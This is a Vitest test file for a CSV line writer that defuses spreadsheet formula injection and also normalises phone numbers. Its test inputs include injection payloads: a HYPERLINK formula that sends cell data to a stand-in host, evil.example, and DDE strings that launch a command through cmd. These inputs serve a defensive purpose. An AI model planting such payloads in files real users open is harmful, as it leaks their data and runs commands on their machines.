import { describe, expect, test } from 'vitest';
import { csvLine } from './csv.ts';

describe('A table that a staff member opens in a spreadsheet', () => {
  test('holds texts as they were typed, line breaks and quotes included', () => {
    expect(csvLine(['June "Jay" Hollis', 'a, b; c', 'two\r\nlines', '', 'Zoë 🎸'])).toBe(
      '"June ""Jay"" Hollis","a, b; c","two\r\nlines","","Zoë 🎸"\r\n',
    );
  });

  test.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("https://evil.example?"&A1)', `'=HYPERLINK(""https://evil.example?""&A1)`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['   =1+1', "   '=1+1"],
    ['\u00a0=1', "\u00a0'=1"],
    ['\u200b=1', "\u200b'=1"],
    ['＝1+1', "'＝1+1"],
    ['－1', "'－1"],
    ['＋1', "'＋1"],
    ['＠x', "'＠x"],
    ['\t=1', "'\t'=1"],
    ['\r=1', "'\r'=1"],
    ['\tplain', "'\tplain"],
    ['x;=1+1', "x;'=1+1"],
    ['x\n=1+1', "x\n'=1+1"],
    ['"=1+1', '""=1+1'],
    ['";=1+1;"', `"";'=1+1;""`],
    ['+1+cmd|calc!A0', "'+1+cmd|calc!A0"],
    ["+1 706 555 0142+cmd|' /C calc'!A0", "'+1 706 555 0142+cmd|' /C calc'!A0"],
    ['+1 706 555 0142\n=1+1', "'+1 706 555 0142\n'=1+1"],
    ['+1 706 555 0142;=1+1', "'+1 706 555 0142;'=1+1"],
    ['+1 706 555 0142\t=1+1', "'+1 706 555 0142\t'=1+1"],
    ['+1 706 555 0142 ext. 5', "'+1 706 555 0142 ext. 5"],
    ['+A1 706 555 0142', "'+A1 706 555 0142"],
    ['++1 706 555 0142', "'++1 706 555 0142"],
    ['+1-2', "'+1-2"],
    ['+1(2)', "'+1(2)"],
    ['+(706)', "'+(706)"],
    ['+', "'+"],
    ['+1234567890123456789', "'+1234567890123456789"],
    ['+99999999999', "'+99999999999"],
    ['-2-3', "'-2-3"],
    ['-1e5', "'-1e5"],
    ['-A1', "'-A1"],
    ['-', "'-"],
    ['- a list', "'- a list"],
  ])('has no cell that is a formula (%j)', (typed, cell) => {
    expect(csvLine([typed])).toBe(`"${cell}"\r\n`);
  });

  test.each([
    ['+1 706 555 0142', '+1 706 555 0142'],
    ['+1 (706) 555-0142', '+1 706 555 0142'],
    ['+1-706-555-0142', '+1 706 555 0142'],
    ['+1.706.555.0142', '+1 706 555 0142'],
    ['+1\u00a0706\u00a0555\u00a00142', '+1 706 555 0142'],
    ['+17065550142', '+1 706 555 0142'],
    ['+442079460958', '+44 20 7946 0958'],
    ['+44 20 7946 0958', '+44 20 7946 0958'],
  ])('shows a phone number as one would dial it, and not as a sum (%j)', (typed, cell) => {
    expect(csvLine([typed])).toBe(`"${cell}"\r\n`);
  });

  test.each([
    '-5',
    '-0.5',
    '+50',
    '(706) 555-0142',
    '706-555-0142',
    'a=b',
    'ann@example.com',
    '1-3',
    'https://x.example/?a=b',
  ])('leaves what cannot be one alone (%j)', (typed) => {
    expect(csvLine([typed])).toBe(`"${typed}"\r\n`);
  });
});
